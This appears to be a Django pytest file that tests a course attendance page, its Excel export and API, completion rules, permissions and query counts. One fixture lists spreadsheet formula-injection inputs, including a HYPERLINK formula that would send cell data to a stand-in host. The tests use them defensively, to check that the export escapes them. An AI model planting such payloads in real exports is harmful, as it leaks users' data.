"""The staff attendance view of a course (page, Excel export, API) and the public course API: marks,
shares and risk, permissions, and a number of queries that does not grow with trainees or courses."""

import datetime
import io
import re

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from checkin.services import checkin_mark_present
from events.enums import OrganizationKind
from events.models import Registration
from tests.factories import RegistrationFactory, UserFactory
from tests.training.helpers import attend, make_course, scan_in, sessions_of, table_rows, vi
from training.enums import CourseTopic
from training.models import Course

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PAGE = "/courses/tap-huan-diem-danh/attendance/"
API = "/api/v1/courses/tap-huan-diem-danh/attendance/"
MARKS = ["present", "late", "corrected", "absent", "cancelled", "upcoming", "upcoming"]


@pytest.fixture
def course(staff) -> Course:
    """Seven daily sessions: four held, the fifth cancelled, two to come. Six count, five are needed.

    Bùi Văn An: present, late, corrected by staff, absent (3 attended: at risk);
    Cao Thị Bình: present at all four (4 attended: on track);
    Hồ Minh Châu: only at the fourth (1 attended: can no longer complete)."""
    today = timezone.now().replace(microsecond=0)
    course = make_course(
        starts=[today + datetime.timedelta(days=d) for d in (-4, -3, -2, -1, 1, 2, 3)],
        cancelled=(4,),
        slug="tap-huan-diem-danh",
        late_after_minutes=15,
    )
    sessions = sessions_of(course)
    an, binh, chau = (
        RegistrationFactory(event=course.event, full_name=name, organization_name=org)
        for name, org in [
            ("Bùi Văn An", "Viện Nghiên cứu Phát triển"),
            ("Cao Thị Bình", "Trường Đại học Bách khoa"),
            ("Hồ Minh Châu", "Sở Khoa học và Công nghệ"),
        ]
    )
    scan_in(an, sessions[0])
    scan_in(an, sessions[1], minutes_after_start=20)
    checkin_mark_present(registration=an, session=sessions[2], by=staff, reason="Ký danh sách giấy")
    attend(binh, sessions[:4])
    scan_in(chau, sessions[3])
    RegistrationFactory(event=course.event, full_name="Người Đã Hủy", status="cancelled")
    return course


def row_marks(content: bytes) -> list[list[str]]:
    """The mark class of each cell, row by row, in the attendance matrix."""
    rows = re.findall(r'<tr class="[^"]*"><td class="name">(.*?)</tr>', content.decode(), re.S)
    return [re.findall(r'<td class="mark--(\w+)"', row) for row in rows]


def test_attendance_page_shows_matrix_and_risk(staff_client, course):
    response = staff_client.get(PAGE)

    assert response.status_code == 200
    assert table_rows(response.content, "matrix") == [
        [
            "Bùi Văn An Viện Nghiên cứu Phát triển",
            "✓",
            "L",
            "✓*",
            "✗",
            "–",
            "",
            "",
            "3/6",
            "50",
            vi("At risk"),
        ],
        [
            "Cao Thị Bình Trường Đại học Bách khoa",
            "✓",
            "✓",
            "✓",
            "✓",
            "–",
            "",
            "",
            "4/6",
            "67",
            vi("On track"),
        ],
        [
            "Hồ Minh Châu Sở Khoa học và Công nghệ",
            "✗",
            "✗",
            "✗",
            "✓",
            "–",
            "",
            "",
            "1/6",
            "17",
            vi("Cannot complete"),
        ],
    ]
    assert row_marks(response.content) == [
        MARKS,
        ["present", "present", "present", "present", "cancelled", "upcoming", "upcoming"],
        ["absent", "absent", "absent", "present", "cancelled", "upcoming", "upcoming"],
    ]
    assert re.findall(r'<tr class="([^"]*)"><td class="name">', response.content.decode()) == [
        "at-risk",
        "",
        "at-risk",
    ]


def test_attendance_page_late_marks_do_not_count_when_course_says_so(staff_client, course):
    course.late_counts = False
    course.save()

    response = staff_client.get(PAGE)

    assert [row[8:] for row in table_rows(response.content, "matrix")] == [
        ["2/6", "33", vi("Cannot complete")],
        ["4/6", "67", vi("On track")],
        ["1/6", "17", vi("Cannot complete")],
    ]


def test_attendance_export_survives_a_control_character_stored_in_a_name(staff_client, course):
    registration = course.event.registrations.filter(status="confirmed").first()
    registration.full_name = "Nguyễn\x01 Văn\x1b An"  # stored before names were checked, or by a script
    registration.save(update_fields=["full_name"])

    response = staff_client.get(PAGE, {"format": "xlsx"})

    assert response.status_code == 200
    names = [
        row[0]
        for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(values_only=True)
    ]
    assert "Nguyễn Văn An" in names


# Text typed in a public form that a spreadsheet program would take for a formula.
FORMULA_LIKE = ['=HYPERLINK("http://x.example/?"&A1,"Xem")', "+84 912 345 678", "-1+2", "@SUM(A1:A9)"]
FORMULA_LIKE_WITH_A_LINE_START = ["\t=1+1", "\r=1+1"]


def test_attendance_export_writes_formula_like_names_as_text(staff_client, course):
    trainees = list(course.event.registrations.filter(status="confirmed").order_by("full_name"))
    names = FORMULA_LIKE[:3]
    organisations = [FORMULA_LIKE[3], *FORMULA_LIKE_WITH_A_LINE_START]
    for registration, name, organisation in zip(trainees, names, organisations, strict=True):
        # Written directly: stored before names were checked, or by a script.
        Registration.objects.filter(pk=registration.pk).update(full_name=name, organization_name=organisation)

    response = staff_client.get(PAGE, {"format": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    by_email = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    rows = [by_email[registration.email] for registration in trainees]
    cells = [cell for row in rows for cell in row[:2]]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [
        (names[0], "s", True),
        (organisations[0], "s", True),
        (names[1], "s", True),
        ("\t=1+1", "s", True),
        (names[2], "s", True),
        # An .xlsx file (XML) keeps a line break as \n, as Excel writes it.
        ("\n=1+1", "s", True),
    ]
    # Numbers stay numbers: sessions attended and the share.
    assert [(row[-4].data_type, row[-3].data_type) for row in rows] == [("n", "n")] * 3


def test_attendance_export_sheet_is_named_in_the_page_language(staff_client, course):
    names = [
        load_workbook(io.BytesIO(staff_client.get(page, {"format": "xlsx"}).content)).sheetnames
        for page in (PAGE, "/en" + PAGE)
    ]

    assert names == [["Điểm danh", "Chú giải"], ["Attendance", "Legend"]]


def test_attendance_export_opens_in_excel(staff_client, course):
    response = staff_client.get(PAGE, {"format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == 'attachment; filename="attendance-tap-huan-diem-danh.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        [
            vi("Full name"),
            vi("Organisation"),
            vi("E-mail"),
            *session_heads(course),
            vi("Sessions attended"),
            vi("Share (%)"),
            vi("Completed"),
            vi("At risk"),
        ],
        [
            "Bùi Văn An",
            "Viện Nghiên cứu Phát triển",
            email_of(course, "Bùi Văn An"),
            "✓",
            "L",
            "✓*",
            "✗",
            "–",
            None,
            None,
            3,
            50,
            vi("No"),
            vi("Yes"),
        ],
        [
            "Cao Thị Bình",
            "Trường Đại học Bách khoa",
            email_of(course, "Cao Thị Bình"),
            "✓",
            "✓",
            "✓",
            "✓",
            "–",
            None,
            None,
            4,
            67,
            vi("No"),
            None,
        ],
        [
            "Hồ Minh Châu",
            "Sở Khoa học và Công nghệ",
            email_of(course, "Hồ Minh Châu"),
            "✗",
            "✗",
            "✗",
            "✓",
            "–",
            None,
            None,
            1,
            17,
            vi("No"),
            vi("Yes"),
        ],
    ]


def session_heads(course: Course) -> list[str]:
    return [timezone.localtime(s.starts_at).strftime("%d/%m %H:%M") for s in sessions_of(course)]


def email_of(course: Course, name: str) -> str:
    return course.event.registrations.get(full_name=name).email


def test_attendance_page_needs_login(client, course):
    response = client.get(PAGE)

    assert (response.status_code, response["Location"]) == (302, f"/admin/login/?next={PAGE}")


def test_attendance_page_refuses_user_without_permission(client, course):
    client.force_login(UserFactory(username="nguoi_ngoai"))

    assert client.get(PAGE).status_code == 403
    assert client.get(PAGE, {"format": "xlsx"}).status_code == 403


def test_attendance_api_refuses_anonymous_and_user_without_permission(course):
    api = APIClient()
    anonymous = api.get(API)
    api.force_authenticate(UserFactory(username="nguoi_ngoai"))
    outsider = api.get(API)

    assert (anonymous.status_code, anonymous.json()["code"]) == (401, "not_authenticated")
    assert (outsider.status_code, outsider.json()["code"]) == (403, "permission_denied")


def test_attendance_api_gives_marks_and_completion(course, staff):
    api = APIClient()
    api.force_authenticate(staff)

    response = api.get(API)

    assert response.status_code == 200
    body = response.json()
    assert [s["cancelled"] for s in body["sessions"]] == [False, False, False, False, True, False, False]
    assert (body["course"], body["sessions_total"], body["sessions_required"], body["ended"]) == (
        "tap-huan-diem-danh",
        6,
        5,
        False,
    )
    assert [
        (t["name"], t["organisation"], t["marks"], t["attended"], t["percent"], t["completed"], t["at_risk"])
        for t in body["trainees"]
    ] == [
        ("Bùi Văn An", "Viện Nghiên cứu Phát triển", MARKS, 3, 50, False, True),
        ("Cao Thị Bình", "Trường Đại học Bách khoa", ["present"] * 4 + MARKS[4:], 4, 67, False, False),
        (
            "Hồ Minh Châu",
            "Sở Khoa học và Công nghệ",
            ["absent"] * 3 + ["present"] + MARKS[4:],
            1,
            17,
            False,
            True,
        ),
    ]


def test_attendance_apply_rule_after_the_end_issues_certificates(staff_client, course):
    course.event.sessions.filter(starts_at__gt=timezone.now()).update(is_cancelled=True)

    response = staff_client.post(PAGE)

    assert response.status_code == 200
    # Four sessions held: Cao Thị Bình attended all, Bùi Văn An three of four (75% < 80%).
    assert [row[-1] for row in table_rows(response.content, "matrix")] == [
        vi("Cannot complete"),
        vi("Completed"),
        vi("Cannot complete"),
    ]
    assert list(course.certificates.values_list("full_name", flat=True)) == ["Cao Thị Bình"]


def test_attendance_apply_rule_needs_change_permission(client, course):
    viewer = UserFactory(username="chi_xem")
    viewer.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="events", codename__in=["view_registration", "manage_all_hosts"]
        )
    )
    client.force_login(viewer)
    course.event.sessions.filter(starts_at__gt=timezone.now()).update(is_cancelled=True)

    assert client.post(PAGE).status_code == 200
    assert course.certificates.count() == 0


def _course_with_trainees(slug: str, count: int, staff) -> Course:
    today = timezone.now().replace(microsecond=0)
    course = make_course(starts=[today + datetime.timedelta(days=d) for d in (-2, -1, 1)], slug=slug)
    sessions = sessions_of(course)
    for n in range(count):
        trainee = RegistrationFactory(event=course.event, full_name=f"Học viên {n:02d}")
        scan_in(trainee, sessions[0], minutes_after_start=n % 30)
        if n % 3 == 0:
            checkin_mark_present(registration=trainee, session=sessions[1], by=staff, reason="Bổ sung")
    return course


def _queries(client, path: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(path)
    assert response.status_code == 200
    return len(queries)


def test_attendance_page_and_api_queries_do_not_grow_with_trainees(staff_client, staff):
    _course_with_trainees("lop-hai-nguoi", 2, staff)
    _course_with_trainees("lop-ba-muoi-nguoi", 30, staff)
    api = APIClient()
    api.force_login(staff)  # the user is loaded afresh on each request, as in real use

    page_two = _queries(staff_client, "/courses/lop-hai-nguoi/attendance/")
    page_thirty = _queries(staff_client, "/courses/lop-ba-muoi-nguoi/attendance/")
    api_two = _queries(api, "/api/v1/courses/lop-hai-nguoi/attendance/")
    api_thirty = _queries(api, "/api/v1/courses/lop-ba-muoi-nguoi/attendance/")

    assert page_two == page_thirty
    assert api_two == api_thirty
    assert len(api.get("/api/v1/courses/lop-ba-muoi-nguoi/attendance/").json()["trainees"]) == 30


# --- The public course API -------------------------------------------------------------------------------


def _catalogue_course(n: int) -> Course:
    start = timezone.now().replace(microsecond=0) + datetime.timedelta(days=5 + n)
    return make_course(
        starts=[start, start + datetime.timedelta(days=7)],
        slug=f"khoa-hoc-{n:02d}",
        title_vi=f"Khóa tập huấn số {n}",
        title_en=f"Training course {n}",
        topic=CourseTopic.POLICY_IMPLEMENTATION,
        eligible_kinds=[OrganizationKind.STATE_AGENCY, OrganizationKind.INNOVATION_CENTRE],
        trainers="TS. Nguyễn Văn Giảng\nThS. Lê Thị Dạy",
        outcomes_vi="Nắm vững chính sách hỗ trợ khởi nghiệp",
        min_attendance_percent=75,
        late_counts=False,
        late_after_minutes=10,
    )


def test_course_api_detail_gives_topic_kinds_rule_and_sessions(api_client):
    course = _catalogue_course(1)
    sessions = sessions_of(course)

    response = api_client.get("/api/v1/courses/khoa-hoc-01/")

    assert response.status_code == 200
    body = response.json()
    assert {k: v for k, v in body.items() if k != "event"} == {
        "slug": "khoa-hoc-01",
        "topic": "policy_implementation",
        "topic_display": vi("Policy implementation for state agencies"),
        "eligible_kinds": ["state_agency", "innovation_centre"],
        "eligible_kinds_display": [vi("State agency"), vi("Innovation centre")],
        "trainers": ["TS. Nguyễn Văn Giảng", "ThS. Lê Thị Dạy"],
        "outcomes": "Nắm vững chính sách hỗ trợ khởi nghiệp",
        "completion_rule": {"min_attendance_percent": 75, "late_counts": False, "late_after_minutes": 10},
        "certificates_enabled": True,
    }
    assert (body["event"]["slug"], body["event"]["kind"], body["event"]["title"]) == (
        "khoa-hoc-01",
        "course",
        "Khóa tập huấn số 1",
    )
    assert [s["id"] for s in body["event"]["sessions"]] == [s.pk for s in sessions]


def test_course_api_unknown_or_unpublished_is_404(api_client):
    course = _catalogue_course(1)
    course.event.status = "draft"
    course.event.save()

    assert api_client.get("/api/v1/courses/khoa-hoc-01/").status_code == 404
    assert api_client.get("/api/v1/courses/khong-co/").status_code == 404
    assert api_client.get("/api/v1/courses/").json()["results"] == []


def test_course_api_list_queries_do_not_grow_with_courses(api_client):
    _catalogue_course(0)
    with CaptureQueriesContext(connection) as one:
        first = api_client.get("/api/v1/courses/")
    for n in range(1, 20):
        _catalogue_course(n)
    with CaptureQueriesContext(connection) as many:
        second = api_client.get("/api/v1/courses/")

    assert [c["slug"] for c in first.json()["results"]] == ["khoa-hoc-00"]
    assert [c["slug"] for c in second.json()["results"]] == [f"khoa-hoc-{n:02d}" for n in range(20)]
    assert {len(c["event"]["sessions"]) for c in second.json()["results"]} == {2}
    assert len(one) == len(many)
